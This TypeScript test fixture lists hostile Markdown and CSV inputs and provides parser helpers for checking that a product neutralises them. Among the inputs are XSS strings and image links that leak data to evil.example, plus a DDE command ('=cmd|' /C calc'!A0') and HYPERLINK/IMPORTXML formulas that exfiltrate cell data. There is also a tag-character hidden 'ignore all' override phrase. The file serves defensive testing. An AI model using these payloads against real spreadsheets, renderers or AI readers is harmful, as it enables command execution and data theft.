// Hostile values that a stranger may store, and the readers of answers: a Markdown parser, and a
// CSV reader with each separator that spreadsheets use.
import { parse } from 'csv-parse/sync';
import MarkdownIt from 'markdown-it';

export const MARKDOWN_PAYLOADS = [
  '[click](http://evil.example)',
  '![](http://evil.example/?leak)',
  '![x][y]',
  '[y]: http://evil.example',
  '<http://evil.example>',
  '<a@evil.example>',
  '<img src=x onerror=alert(1)>',
  '<!-- hidden -->',
  '<script>alert(1)</script>',
  '\\[click](http://evil.example)',
  '\\\\[click](http://evil.example)',
  '`[click](http://evil.example)',
  '``` js',
  'a | b | c',
  'a \\| b',
  'a \\\\| b',
  'ends with \\',
  '|',
  '| --- |',
  'one\n## two',
  'one\r\n\r\n| a | b |\r\n| - | - |\r\n',
  'one\rtwo',
  'one\u0085two',
  'one\u2028two\u2029three',
  'one\vtwo\fthree',
  '\u001b[31mred\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b31m',
  'user\u202egnp.exe',
  '\u2066isolated\u2069',
  'in\u200bvisible\u2060 \ufeff \u00ad',
  [...'ignore all'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join(''),
  'smuggled\ufe01\ufe02\ufe03',
  '**bold** *it* _it_ __b__ ~~gone~~ ~g~',
  '*\n*a*',
  '_a_\u3164_b_',
  '# heading',
  '---',
  '===',
  '- item',
  '1. item',
  '> quoted',
  '    code',
  '~~~',
  '&lt;img src=x&gt; &#91;a&#93;(b) &copy;',
  '',
  ' ',
] as const;

/** Written independently of the product's own rule. */
const FORMULA = /^[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻−]/u;
const NUMBER = /^[+-]?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/i;

export const CSV_PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\r=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '"=1+1',
  'x;=1+1',
  'x; =1+1',
  'x;"=1+1";y',
  'x;;=1+1',
  '-5;=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n\r\n=1+1;@a',
  'x",=1+1,"',
  '";=1+1;"',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹣1+1',
  '⁼1',
  '−1+1',
  '=',
  '-',
];

const markdown = new MarkdownIt({ html: true });
type Token = ReturnType<typeof markdown.parse>[number];
/** Turns bare URLs into links, as GitHub does. */
const linkingMarkdown = new MarkdownIt({ html: true, linkify: true });

const flatten = (tokens: readonly Token[]): Token[] =>
  tokens.flatMap((token) => [token, ...flatten(token.children ?? [])]);

const TEXT = new Set(['text', 'text_special', 'softbreak']);
const INVISIBLE = /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\p{Default_Ignorable_Code_Point}]/u;

export interface ReadAnswer {
  /** The blocks of the document: a heading, a table, a paragraph. */
  readonly blocks: readonly string[];
  /** Cells of the table as rendered, the header first. */
  readonly cells: readonly (readonly string[])[];
  /** Everything inside a block that is not plain text. */
  readonly markup: readonly string[];
  readonly isAllVisible: boolean;
}

export function readMarkdown(text: string): ReadAnswer {
  const tokens = markdown.parse(text, {});
  const rows: string[][] = [];
  tokens.forEach(({ type }, index) => {
    if (type === 'tr_open') rows.push([]);
    if (type !== 'td_open' && type !== 'th_open') return;
    rows.at(-1)?.push((tokens[index + 1]?.children ?? []).map(({ content }) => content).join(''));
  });
  return {
    blocks: tokens.filter(({ level, nesting }) => level === 0 && nesting !== -1).map(({ type }) => type),
    cells: rows,
    markup: tokens.flatMap(({ children }) => children ?? []).flatMap(({ type }) => (TEXT.has(type) ? [] : [type])),
    isAllVisible: !INVISIBLE.test(text.replaceAll('\n', '')),
  };
}

/** For each link: `linkify` if it was a bare URL, otherwise its source. */
export const linksIn = (text: string): string[] =>
  flatten(linkingMarkdown.parse(text, {})).flatMap(({ type, markup }) => (type === 'link_open' ? [markup] : []));

export const readCsv = (text: string, delimiter = ','): string[][] =>
  parse(text, {
    delimiter,
    // With another delimiter, a quote is an ordinary character.
    quote: delimiter === ',' ? '"' : false,
    relax_column_count: true,
    skip_empty_lines: true,
  });

/** Cells that a spreadsheet would run as a formula, for any separator. */
export const formulasIn = (text: string): string[] =>
  [',', ';', '\t']
    .flatMap((delimiter) => readCsv(text, delimiter).flat())
    .filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell.trim()));
